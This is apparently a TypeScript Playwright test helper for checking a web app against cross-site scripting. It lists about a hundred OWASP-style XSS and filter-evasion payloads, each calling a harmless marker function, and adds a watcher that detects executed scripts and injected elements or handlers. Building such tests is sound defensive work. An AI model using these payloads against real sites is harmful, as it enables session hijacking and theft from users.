/**
 * Words that would run in a careless browser, after the cheat sheets of OWASP (XSS filter evasion, DOM based XSS prevention), and a watch
 * that says whether any did: a script that ran, an element that came out of words, or something that the content security policy refused.
 */
import type { BrowserContext, Page } from 'playwright-core';

/** Each calls `vhRan` where it runs. */
export const hostileWords: readonly string[] = [
  '<script>vhRan()</script>',
  '"><script>vhRan()</script>',
  "'><img src=x onerror=vhRan()>",
  '<img src=x onerror=vhRan()>',
  '<IMG SRC="jav&#x09;ascript:vhRan();">',
  '<svg onload=vhRan()>',
  '<svg><animate onbegin=vhRan() attributeName=x dur=1s>',
  '<body onload=vhRan()>',
  '<iframe srcdoc="<script>parent.vhRan()</script>">',
  '<iframe src=javascript:parent.vhRan()>',
  '<a href="javascript:vhRan()">klik</a>',
  'javascript:vhRan()',
  'data:text/html,<script>vhRan()</script>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=vhRan()>',
  '</textarea><script>vhRan()</script>',
  '</title><script>vhRan()</script>',
  '</style><script>vhRan()</script>',
  '<details open ontoggle=vhRan()>',
  '<input autofocus onfocus=vhRan()>',
  '<video><source onerror=vhRan()>',
  '<object data="data:text/html,<script>parent.vhRan()</script>">',
  '<base href="//elders.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:vhRan()">',
  '{{constructor.constructor("vhRan()")()}}',
  '$\u007bvhRan()}',
  '<style>@import "javascript:vhRan()";</style>',
  '\\u003cscript\\u003evhRan()\\u003c/script\\u003e',
  '&lt;script&gt;vhRan()&lt;/script&gt;',
  '<<script>vhRan();//<</script>',
  'a" onmouseover="vhRan()" x="',
  "';vhRan();//",
  '<scr<script>ipt>vhRan()</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=vhRan()>">',
  '<template><script>vhRan()</script></template>',
  '<link rel=stylesheet href=javascript:vhRan()>',
  '<form><button formaction=javascript:vhRan()>x</button></form>',
  '<img src="x" onerror="&#118;hRan()">',
  '<img src=x onerror=\\u0076hRan()>',
  '<img/src=`x`/onerror=vhRan()>',
  '<img src=x:alert onerror=eval(src.slice(2)+vhRan())>',
  '<image href=x onerror=vhRan()>',
  '<svg/onload=vhRan()//',
  '<svg><script>vhRan()</script></svg>',
  '<svg><script href="data:text/javascript,vhRan()"/></svg>',
  '<svg><a xlink:href="javascript:vhRan()"><text y=20>klik</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=vhRan()>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=vhRan()></foreignObject></svg>',
  '<svg><set attributeName=href to=javascript:vhRan()>',
  '<svg><style>*{background:url("javascript:vhRan()")}</style></svg>',
  '<math href="javascript:vhRan()">klik</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=vhRan()></annotation-xml></math>',
  '<div style="width:expression(vhRan())">',
  '<div style="background:url(javascript:vhRan())">',
  '<marquee onstart=vhRan()>',
  '<audio src=x onerror=vhRan()>',
  '<select autofocus onfocus=vhRan()>',
  '<keygen autofocus onfocus=vhRan()>',
  '<embed src=javascript:vhRan()>',
  '<isindex action=javascript:vhRan() type=submit>',
  '<frameset onload=vhRan()>',
  '<dialog open onclose=vhRan()>',
  '<p popover id=a onbeforetoggle=vhRan()>x</p><button popovertarget=a>y</button>',
  '<input type=image src=x onerror=vhRan()>',
  '<a href="java&Tab;script:vhRan()">klik</a>',
  '<a href="&#106;avascript:vhRan()">klik</a>',
  '<a href="vbscript:vhRan()">klik</a>',
  '<a href="//elders.example/" target=_blank rel=opener onclick=vhRan()>klik</a>',
  '<a id=vhSaid href=x>klik</a>',
  '<form id=document><input name=body></form><img src=x onerror=vhRan()>',
  '<script src=//elders.example/vhRan.js></script>',
  '<script src=data:,vhRan()></script>',
  '<script>/*--></script><img src=x onerror=vhRan()>*/',
  '<script type=module>import("data:text/javascript,vhRan()")</script>',
  '<script type=importmap>{"imports":{"react":"data:text/javascript,vhRan()"}}</script>',
  '<!--><img src=x onerror=vhRan()>-->',
  '<![CDATA[><img src=x onerror=vhRan()>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">vhRan()</x:script>',
  '<xmp><p title="</xmp><img src=x onerror=vhRan()>">',
  '<plaintext><script>vhRan()</script>',
  '--></script><svg onload=vhRan()>',
  ']]></script><svg onload=vhRan()>',
  '</option></select><img src=x onerror=vhRan()>',
  '</td></tr></table><img src=x onerror=vhRan()>',
  'x" autofocus onfocus="vhRan()',
  "x' style='animation-name:x' onanimationstart='vhRan()",
  'x` onerror=`vhRan()',
  '"-vhRan()-"',
  "'-vhRan()-'",
  '\\"-vhRan()}//',
  '`$\u007bvhRan()}`',
  '#{vhRan()} <%= vhRan() %> {%raw%}{{vhRan()}} [[vhRan()]]',
  '{{$on.constructor("vhRan()")()}}',
  '{"__html":"<img src=x onerror=vhRan()>"}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=vhRan()>"}}',
  'JaVaScRiPt:/*--></title></style></textarea></script><svg/onload=vhRan()//>',
  '%3Cscript%3EvhRan()%3C/script%3E',
  '+ADw-script+AD4-vhRan()+ADw-/script+AD4-',
  '\uff1cscript\uff1evhRan()\uff1c/script\uff1e',
  '<ſcript>vhRan()</ſcript>',
  'blob:vhRan()',
  'filesystem:vhRan()',
  'view-source:javascript:vhRan()',
  '[klik](javascript:vhRan())',
  '![x](x"onerror="vhRan())',
];

/** Before any page is opened. */
export async function watchScripts(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const said: string[] = [];
    Object.assign(window, { vhSaid: said, vhRan: () => said.push('a script ran') });
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      said.push(`the policy refused ${blockedURI} by ${violatedDirective}`),
    );
  });
}

/** What went wrong on the page that stands there, and how many of these words it shows as words. */
export const lookForScripts = (page: Page): Promise<{ wrong: string[]; shown: number }> =>
  page.evaluate(() => {
    const said = Reflect.get(window, 'vhSaid');
    const wrong: string[] = Array.isArray(said) ? said.map(String) : ['nobody watched'];
    const made = 'script:not([src]), iframe, object, base, math, video, template, noscript p, link[href^="javascript"]';
    for (const element of document.querySelectorAll(made)) wrong.push(`<${element.localName}> came out of words`);
    for (const element of document.querySelectorAll('*'))
      for (const { name, value } of element.attributes)
        if (
          /^on/i.test(name) ||
          (/^(href|src|action|formaction)$/i.test(name) && /^\s*(javascript|data):/i.test(value))
        )
          wrong.push(`${element.localName} has ${name}`);
    const fields = [...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('input, textarea')];
    const text = `${document.body.innerText} ${fields.map(({ value }) => value).join(' ')}`;
    return { wrong: [...new Set(wrong)], shown: text.split('vhRan').length - 1 };
  });
